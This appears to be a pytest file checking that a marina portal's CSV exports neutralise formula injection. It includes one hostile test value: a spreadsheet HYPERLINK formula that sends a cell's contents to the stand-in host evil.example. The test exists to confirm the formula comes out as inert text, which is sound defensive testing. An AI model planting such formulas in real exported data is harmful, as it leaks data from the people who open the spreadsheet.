"""CSV formula injection: every CSV the portal writes neutralises cells a spreadsheet would run as formulas."""

import csv
import datetime as dt
import io
import pathlib
import re

import pytest

from marina_portal.core.csvfiles import safe_cell
from marina_portal.core.db import database
from marina_portal.core.formats import paris_today
from marina_portal.models import Absence, Contract, Customer

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_neutralised(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"


def test_ordinary_cells_are_left_alone():
    assert [safe_cell(v) for v in ("DUPONT JEAN", "10,00", 12, None, "B-12")] == [
        "DUPONT JEAN",
        "10,00",
        "12",
        "",
        "B-12",
    ]


def test_a_hostile_name_reaches_the_berth_calendar_csv_as_text(app, client, auth):
    today = paris_today()
    with app.app_context():
        contract = Contract.select().join(Customer).where(Customer.code == "C0001").get()
        Contract.update(ends_on=today + dt.timedelta(days=400)).execute()
        Customer.update(last_name=HOSTILE, first_name="").where(Customer.id == contract.customer_id).execute()
        Absence.create(contract=contract, starts_on=today + dt.timedelta(days=1), ends_on=today + dt.timedelta(days=3))
        database.close()
    auth.staff()
    body = client.get(f"/staff/port/calendar.csv?from={today.isoformat()}&days=7").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    assert rows and {row["plaisancier"] for row in rows} == {"'" + HOSTILE}


def test_every_csv_writer_goes_through_the_one_helper():
    root = pathlib.Path(__file__).resolve().parent.parent / "marina_portal"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "csvfiles.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []
